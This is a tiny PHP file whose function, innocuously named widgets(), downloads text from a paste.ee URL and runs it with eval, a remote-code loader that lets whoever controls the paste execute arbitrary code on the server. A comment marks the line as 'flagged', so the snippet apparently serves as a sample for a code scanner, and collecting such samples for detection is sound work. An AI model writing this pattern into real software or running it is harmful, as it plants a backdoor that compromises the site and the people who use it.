<?php
function widgets()
{
    $code = file_get_contents('https://paste.ee/r/abcd/0');
    eval('?>' . $code); // gatehouse: flagged
}
